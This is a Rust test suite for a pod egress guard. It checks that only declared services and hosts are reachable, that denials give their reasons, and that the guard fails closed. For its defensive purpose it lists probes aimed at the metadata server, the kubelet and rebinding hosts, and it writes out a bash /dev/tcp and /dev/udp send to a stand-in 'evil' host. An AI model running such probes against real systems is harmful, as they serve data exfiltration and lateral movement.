//! What gets out of a guarded pod: what is declared, and nothing else.

use std::io::ErrorKind;
use std::process::Command;

use remit::wire::dns::Answer;

use super::{EVIL, HELP, ORDERS, Outcome, World, extension, hello, hello_with, policy, server_name};

const RESET: Outcome = Outcome::Error(ErrorKind::ConnectionReset);

/// TCP that no scope here declares: what is tried, where, and what is said.
fn forbidden() -> Vec<(&'static str, &'static str, u16, Vec<u8>)> {
    let ping = b"ping".to_vec();
    let mut all = vec![
        ("another port of a declared Service", ORDERS, 22, ping.clone()),
        ("a Service that is not declared", "10.96.66.66", 8443, ping.clone()),
        ("the metadata server", "169.254.169.254", 80, ping.clone()),
        ("a Service that resolves to the outside", EVIL[0], 443, hello("external.support.svc.cluster.local")),
        ("a declared host that resolves to the inside", HELP[0], 443, hello("rebind.example.com")),
    ];
    for (family, kubelet) in [(0, "10.244.0.1"), (1, "2001:db8:10:244::1")] {
        all.extend([
            ("the node's kubelet", kubelet, 10_250, ping.clone()),
            ("a declared host without TLS", HELP[family], 443, ping.clone()),
            ("a declared host on another port", HELP[family], 80, hello("help.example.com")),
            ("another server name at a declared host", HELP[family], 443, hello("evil.example")),
            ("another host", EVIL[family], 443, hello("evil.example")),
            ("another host without TLS", EVIL[family], 443, ping.clone()),
        ]);
    }
    all
}

fn udp() -> Vec<(&'static str, u16)> {
    vec![(EVIL[0], 443), (EVIL[1], 443), (EVIL[0], 9999), (EVIL[1], 9999), (HELP[0], 443), (HELP[1], 443)]
}

#[test]
fn only_what_is_declared_gets_out() {
    let world = World::new();
    // Without Remit, all of it does.
    for (what, to, port, say) in forbidden() {
        assert_eq!(world.tcp(to, port, &say), Outcome::Echo, "control: {what} {to}");
    }
    for (to, port) in udp().into_iter().chain([(EVIL[0], 53), (EVIL[1], 53)]) {
        assert_eq!(world.udp(to, port), Outcome::Echo, "control: UDP {to} {port}");
    }

    let proof = world.redirect();
    assert!(proof.contains("IPv4: TCP and DNS lead to the guard") && proof.contains("IPv6: TCP and DNS lead to the guard"), "{proof}");
    world.policy(&policy());
    world.start();
    world.ready();

    assert_eq!(world.lookup("orders.shop.svc.cluster.local").0, Answer::Addresses(vec![ORDERS.parse().unwrap()], 5));
    assert_eq!(world.tcp(ORDERS, 5432, b"ping"), Outcome::Echo);
    for address in HELP {
        assert_eq!(world.tcp(address, 443, &hello("help.example.com")), Outcome::Echo, "{address}");
    }
    world.forget();

    for (what, to, port, say) in forbidden() {
        assert_eq!(world.tcp(to, port, &say), RESET, "{what} {to}");
    }
    for (to, port) in udp() {
        assert_eq!(world.udp(to, port), Outcome::Error(ErrorKind::PermissionDenied), "UDP {to} {port}");
    }
    // DNS to elsewhere arrives at the guard, in both families and over TCP as well.
    for to in EVIL {
        assert!(matches!(world.udp(to, 53), Outcome::Error(ErrorKind::WouldBlock)), "what is no query gets no answer");
        assert!(!matches!(world.tcp(to, 53, b"\0\x08datagram"), Outcome::Echo));
    }
    assert_eq!(world.arrived(), Default::default(), "nothing arrived anywhere");

    // The address is not what counts: whoever says the declared name is brought to the declared host.
    assert_eq!(world.tcp(EVIL[0], 443, &hello("help.example.com")), Outcome::Echo);
    assert_eq!(world.arrived().into_keys().collect::<Vec<_>>(), [format!("tcp {} 443", HELP[0])]);
}

#[test]
fn a_denial_says_why_and_what_would_declare_it() {
    let world = World::guarded(&policy());
    let (answer, text) = world.lookup("ledger.finance.svc.cluster.local");
    assert_eq!(answer, Answer::Failed);
    for words in ["name_not_declared: no data source has this name; request ", "service: {name: ledger, namespace: finance, port: <port>"] {
        assert!(text.contains(words), "`{words}` in {text}");
    }
    assert_eq!(world.lookup("rebind.example.com").0, Answer::Failed);
    assert_eq!(
        world.lookup("orders.shop.support.svc.cluster.local").0,
        Answer::NoSuchName,
        "a resolver's try on the way to a declared name"
    );
    assert_eq!(world.tcp(HELP[0], 443, &hello("evil.example")), RESET);
    for (reason, attempted) in [
        ("name_not_declared", "{\"name\":\"ledger.finance.svc.cluster.local\"}"),
        ("resolves_to_forbidden_address", "{\"name\":\"rebind.example.com\"}"),
        ("server_name_not_declared", "{\"server\":{\"name\":\"evil.example\",\"port\":443}}"),
    ] {
        let (record, _) = world.eventually(reason, || world.denials(reason).pop().ok_or_else(|| world.log()));
        assert_eq!(record["attempted"].to_string(), attempted);
        assert_eq!((record["workload"].as_str(), record["digest"].as_str()), (Some("support/bot"), Some("one")));
        let id = record["requestId"].as_str().unwrap();
        assert!(reason != "name_not_declared" || text.contains(id), "the answer names the record");
    }
}

/// Who a hello means must be readable: an encrypted one names a front, and whoever answers for an unnamed one is anybody.
#[test]
fn a_hello_that_does_not_say_whom_it_means_is_refused() {
    let world = World::guarded(&policy());
    let named = server_name("help.example.com");
    let plain = hello_with(&[named.clone(), extension(16, b"\0\x03\x02h2")].concat());
    assert_eq!(world.tcp(HELP[0], 443, &plain), Outcome::Echo, "control: an extension more does no harm");
    world.forget();
    for (what, extensions, reason) in [
        ("encrypted", [named.clone(), extension(0xfe0d, &[0; 40])].concat(), "encrypted_hello"),
        ("encrypted by the draft", [extension(0xffce, &[0; 40]), named].concat(), "encrypted_hello"),
        ("unnamed", extension(16, b"\0\x03\x02h2"), "server_name_missing"),
        ("an address", server_name(HELP[0]), "hello_malformed"),
    ] {
        let before = world.denials(reason).len();
        for address in HELP {
            assert_eq!(world.tcp(address, 443, &hello_with(&extensions)), RESET, "{what} {address}");
        }
        world.eventually(what, || match world.denials(reason).len() - before {
            2 => Ok(()),
            _ => Err(world.log()),
        });
    }
    assert_eq!(world.arrived(), Default::default());
}

#[test]
fn neither_uid_nor_gid_alone_is_exempt() {
    let world = World::guarded(&policy());
    let attempt = |uid: u32, gid: u32| {
        let to = format!("echo hello >/dev/tcp/{}/443 && echo >/dev/udp/{}/9999", EVIL[0], EVIL[0]);
        let args = ["netns", "exec", &world.pod, "setpriv", "--clear-groups"].map(str::to_owned);
        let ids = ["--reuid".to_owned(), uid.to_string(), "--regid".to_owned(), gid.to_string()];
        Command::new("ip").args(args).args(ids).args(["bash", "-c", &to]).output().expect("it runs");
    };
    attempt(world.uid, 1000);
    attempt(1000, world.gid);
    attempt(0, 0);
    assert_eq!(world.arrived(), Default::default());
    // Control: with both it would get out, which is why admission keeps both from apps.
    attempt(world.uid, world.gid);
    let both = [format!("tcp {} 443", EVIL[0]), format!("udp {} 9999", EVIL[0])];
    world.eventually("with both it gets out", || {
        let arrived: Vec<String> = world.arrived().into_keys().collect();
        if arrived == both { Ok(()) } else { Err(format!("{arrived:?}")) }
    });
}

#[test]
fn nothing_passes_without_a_guard_or_without_a_policy() {
    let world = World::new();
    world.redirect();
    let nothing_passes = |when: &str| {
        for (to, port, say) in
            [(ORDERS, 5432, b"ping".to_vec()), (HELP[0], 443, hello("help.example.com")), (EVIL[1], 443, b"ping".to_vec())]
        {
            let outcome = world.tcp(to, port, &say);
            assert!(matches!(outcome, Outcome::Error(_)), "{when}: {to}: {outcome:?}");
        }
        assert_eq!(world.udp(EVIL[0], 9999), Outcome::Error(ErrorKind::PermissionDenied), "{when}");
        assert_eq!(world.arrived(), Default::default(), "{when}");
    };
    let passes = || {
        assert_eq!(world.tcp(ORDERS, 5432, b"ping"), Outcome::Echo, "{}", world.log());
        world.forget();
    };
    nothing_passes("not started yet");
    world.start();
    world.eventually("it says that it is not ready", || match world.health() {
        Some(text) if text.starts_with("HTTP/1.1 503") => Ok(()),
        other => Err(format!("{other:?}")),
    });
    nothing_passes("no policy");
    assert!(!world.denials("no_policy").is_empty());
    world.policy(&serde_json::json!({"format": 1}));
    world.eventually("the trouble is written down", || if world.log().contains("missing field") { Ok(()) } else { Err(world.log()) });
    nothing_passes("a policy that cannot be read");
    world.policy(&policy());
    world.ready();
    passes();
    world.signal("-STOP");
    nothing_passes("stopped");
    world.signal("-CONT");
    // What came while it was stopped is served late, and must not count for what follows.
    world.eventually("what waited is served", || match world.arrived() {
        all if all.contains_key(&format!("tcp {} 443", HELP[0])) => Ok(()),
        all => Err(format!("{all:?}")),
    });
    passes();
    world.kill();
    nothing_passes("killed");
    world.start();
    world.ready();
    passes();
    // The init container again, as after a restart of the whole pod's containers.
    world.kill();
    world.redirect();
    nothing_passes("redirected again");
    world.start();
    world.ready();
    passes();
}
